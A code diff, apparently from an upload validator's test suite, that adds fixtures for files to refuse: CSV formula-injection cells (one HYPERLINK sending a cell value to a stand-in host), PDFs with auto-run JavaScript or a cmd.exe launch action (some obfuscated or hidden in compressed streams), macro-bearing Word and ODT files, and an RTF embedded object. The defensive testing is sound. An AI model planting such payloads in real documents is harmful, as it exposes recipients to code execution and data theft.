@@ -94,6 +94,7 @@ const zipOf = (...entries: [string, string][]) => {
   end.writeUInt32LE(offset, 12);
   return Buffer.concat([...local, directory, Buffer.from('PK\x05\x06'), end]);
 };
+const ODT = 'application/vnd.oasis.opendocument.text';
 const contentTypes = (main: string) =>
   `<?xml version="1.0"?><Types><Override PartName="/main.xml" ContentType="${main}.main+xml"/></Types>`;
 const OPEN_XML = 'application/vnd.openxmlformats-officedocument';
@@ -102,7 +103,7 @@ const docx = () =>
     ['[Content_Types].xml', contentTypes(`${OPEN_XML}.wordprocessingml.document`)],
     ['word/document.xml', '<w/>'],
   );
-const odt = () => zipOf(['mimetype', 'application/vnd.oasis.opendocument.text'], ['content.xml', '<o/>']);
+const odt = (...more: [string, string][]) => zipOf(['mimetype', ODT], ['content.xml', '<o/>'], ...more);
 const compound = (stream: string) =>
   Buffer.concat([
     Buffer.from('d0cf11e0a1b11ae1', 'hex'),
@@ -110,7 +111,16 @@ const compound = (stream: string) =>
     Buffer.from(stream, 'utf16le'),
     Buffer.alloc(512),
   ]);
-const PDF = text('%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n');
+const pdfWith = (entries: string) =>
+  text(`%PDF-1.4\n1 0 obj<</Type/Catalog${entries}>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`);
+const pdfWithStream = (objects: string) =>
+  Buffer.concat([
+    pdfWith(''),
+    text('2 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode>>\nstream\n'),
+    deflateSync(text(objects)),
+    text('\nendstream endobj\n%%EOF\n'),
+  ]);
+const PDF = pdfWith('');
 const SVG = text('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>');
 const HTML = text('<!doctype html><script>alert(document.domain)</script>');
 const WINDOWS_1251 = Buffer.from('cee1f9e8ede03be3eee4e8ede00d0ad2f0eeffed3b313938370d0a', 'hex');
@@ -136,6 +146,15 @@ describe('a file is refused by its bytes, at the file, and nothing of it is left
     ['formula.csv', () => text(`Троян,"=""a"" & HYPERLINK(""https://a.example"")"\n`), 'table_with_formula'],
     ['formula.csv', () => text(`Троян;=""\n;=""&A1\n`), 'table_with_formula'],
     ['formula.csv', () => text(`="${'"'.repeat(200_000)}`), 'table_with_formula'],
+    ['formula.csv', () => text(`Троян;+HYPERLINK("https://a.example/?"&A1;"b")\n`), 'table_with_formula'],
+    ['formula.csv', () => text(`Троян;-1+SUM(A1:A9)\n`), 'table_with_formula'],
+    ['skript.pdf', () => pdfWith('/OpenAction<</S/JavaScript/JS(app.alert(1))>>'), 'file_with_program'],
+    ['skript.pdf', () => pdfWith('/OpenAction<</S/#4aavaScript/JS(app.alert(1))>>'), 'file_with_program'],
+    ['skript.pdf', () => pdfWith('/OpenAction<</S /Launch/F(cmd.exe)>>'), 'file_with_program'],
+    ['skript.pdf', () => pdfWithStream('1 0 <</S/JavaScript/JS(app.alert(1))>>'), 'file_with_program'],
+    ['makros.doc', () => compound('WordDocument_VBA_PROJECT'), 'file_with_program'],
+    ['makros.odt', () => odt(['Basic/Standard/Module1.xml', '<m/>']), 'file_with_program'],
+    ['obekt.rtf', () => text('{\\rtf1{\\object\\objemb{\\*\\objdata 0105}}}'), 'file_with_program'],
     ['stranitsa.html', () => HTML, 'file_kind_unknown'],
     ['stranitsa.jpg', () => HTML, 'file_not_its_kind'],
     ['stranitsa.pdf', () => HTML, 'file_not_its_kind'],
@@ -205,12 +224,15 @@ describe('a file is stored as what its bytes say', () => {
     ['blob', () => picture('png'), '.png', 'image/png'],
     ['Покана.pdf', () => PDF, '.pdf', 'application/pdf'],
     ['Протокол.docx', docx, '.docx', `${OPEN_XML}.wordprocessingml.document`],
-    ['Протокол.odt', odt, '.odt', 'application/vnd.oasis.opendocument.text'],
+    ['Протокол.rtf', () => text('{\\rtf1\\ansi Протокол}'), '.rtf', 'application/rtf'],
+    ['Протокол с библиотека.odt', () => odt(['Basic/Standard/script-lb.xml', '<l/>']), '.odt', ODT],
+    ['Устав.pdf', () => pdfWithStream('1 0 <</Title(/JavaScripts)>>'), '.pdf', 'application/pdf'],
+    ['Протокол.odt', () => odt(), '.odt', ODT],
     ['Протокол.doc', () => compound('WordDocument'), '.doc', 'application/msword'],
     ['Партньори.xls', () => compound('Workbook'), '.xls', 'application/vnd.ms-excel'],
     [
       'Партньори.csv',
-      () => text('Община;Партньор;Телефон\nТроян;Лом;+359 2 123\nа < б, ivan <ivan@troyan.bg>;"- да!";-5'),
+      () => text('Община;Партньор;Телефон\nТроян;Лом;+359 (2) 123\nа < б, ivan <ivan@troyan.bg>;"- да!";-5'),
       '.csv',
       'text/csv',
     ],
